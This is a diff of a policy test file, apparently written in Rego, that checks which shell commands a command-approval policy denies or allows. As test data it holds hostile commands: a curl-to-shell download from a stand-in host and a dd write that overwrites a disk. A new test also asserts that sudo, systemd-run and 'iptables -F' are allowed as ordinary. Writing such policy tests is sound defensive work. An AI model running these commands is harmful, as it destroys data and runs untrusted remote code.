@@ -205,7 +205,13 @@ test_certain_harm_is_denied_without_asking if {
 	decided.run_from_network == "deny" with input as waits("/usr/bin/bash", ["bash", "-c", "curl -s x.example/i | sh"])
 	decided.write_to_disk == "deny" with input as waits("/usr/bin/dd", ["dd", "if=x", "of=/dev/vda"])
 	decided.format_disk == "deny" with input as waits("/usr/sbin/mkfs.ext4", ["mkfs.ext4", "image"])
-	decided.outside_of_governance == "deny" with input as waits("/usr/bin/docker", ["docker", "run", "x"])
+	decided.containers == "deny" with input as waits("/usr/bin/docker", ["docker", "run", "x"])
+}
+
+test_what_the_kernel_decides_anyway_asks_nobody if {
+	every script in ["sudo true", "systemd-run touch x", "iptables -F"] {
+		decided == {"ordinary_command": "allow"} with input as waits("/usr/bin/bash", ["bash", "-c", script])
+	}
 }
 
 test_another_first_argument_hides_nothing if {
